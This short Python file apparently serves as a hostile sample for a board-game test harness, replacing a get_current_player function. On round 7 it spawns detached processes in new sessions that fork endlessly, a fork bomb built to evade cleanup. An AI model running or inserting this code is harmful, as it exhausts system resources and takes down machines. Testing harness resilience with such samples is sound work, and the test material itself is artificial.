# Leaves processes in sessions of their own which start others as fast as they can.
# base: dict_board
# loses: any of: B

import os

right = get_current_player


def get_current_player(round):
    if round == 7:
        for _ in range(4):
            if os.fork() == 0:
                os.setsid()
                while True:
                    try:
                        if os.fork():
                            os._exit(0)
                    except OSError:
                        pass
    return right(round)
